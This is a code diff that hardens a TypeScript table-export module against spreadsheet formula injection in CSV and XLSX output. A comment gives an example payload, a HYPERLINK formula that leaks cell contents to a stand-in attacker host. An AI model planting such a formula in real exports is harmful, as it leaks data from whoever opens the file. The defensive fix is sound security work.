@@ -19,14 +19,43 @@ export interface TableFiles {
   xlsx: () => Promise<Blob>;
 }
 
+// Formula injection ("CSV injection", OWASP): a spreadsheet reads a cell that starts with = + - @
+// as a formula, and one that starts with a tab or a line break may be split or trimmed into one, so
+// a proposal titled =HYPERLINK("http://attacker.example/?leak="&A2,"x") would run in whoever opens
+// the export. Blanks before the sign count too (imports that trim spaces), and so do the full-width
+// ＝＋－＠: with a Chinese or Japanese input method a spreadsheet may take them, typed, for = + - @,
+// and we cannot rule out the same on import. Text that is only a signed number ("-5", "+12.5",
+// what the money columns hold) is left alone: the spreadsheet reads that number and nothing else,
+// and quoting it would turn amounts into text. A number cell is a number and never a formula.
+const FORMULA_START = /^(?:[\t\r\n]|[\s\u3000]*[=+\-@＝＋－＠])/;
+const SIGNED_NUMBER = /^[+-]?\d+(?:\.\d+)?$/;
+
+/** Whether a spreadsheet could read this text cell as a formula. */
+const formulaLike = (text: string) => FORMULA_START.test(text) && !SIGNED_NUMBER.test(text);
+
+/** In CSV, where every field is typed text, a formula-like cell is kept text by a leading '. */
+const csvCell = (c: Cell) => (c === null ? "" : typeof c === "string" && formulaLike(c) ? `'${c}` : c);
+
 export function toCsv(table: Table): string {
-  return `\uFEFF${Papa.unparse([table.header, ...table.rows.map((r) => r.map((c) => (c === null ? "" : c)))], { newline: "\r\n" })}\r\n`;
+  return `\uFEFF${Papa.unparse(
+    [table.header, ...table.rows].map((r) => r.map(csvCell)),
+    { newline: "\r\n" },
+  )}\r\n`;
 }
+
+/**
+ * In .xlsx a string is a text cell (write-excel-file writes a formula only for type "Formula"), so
+ * it is never evaluated and needs no quote, which would show; a formula-like one is formatted as
+ * Text ("@") as well, so that editing the cell in a spreadsheet does not turn it into a formula.
+ */
+const xlsxText = (value: string) => (formulaLike(value) ? { value, type: String, format: "@" } : { value });
 
 async function toXlsx(table: Table, sheet: string): Promise<Blob> {
   const data = [
-    table.header.map((value) => ({ value, fontWeight: "bold" as const })),
-    ...table.rows.map((r) => r.map((value) => (value === null ? null : { value }))),
+    table.header.map((value) => ({ ...xlsxText(value), fontWeight: "bold" as const })),
+    ...table.rows.map((r) =>
+      r.map((value) => (value === null ? null : typeof value === "string" ? xlsxText(value) : { value })),
+    ),
   ];
   return writeXlsxFile(data, { sheet: sheet.slice(0, 31), stickyRowsCount: 1 }).toBlob();
 }
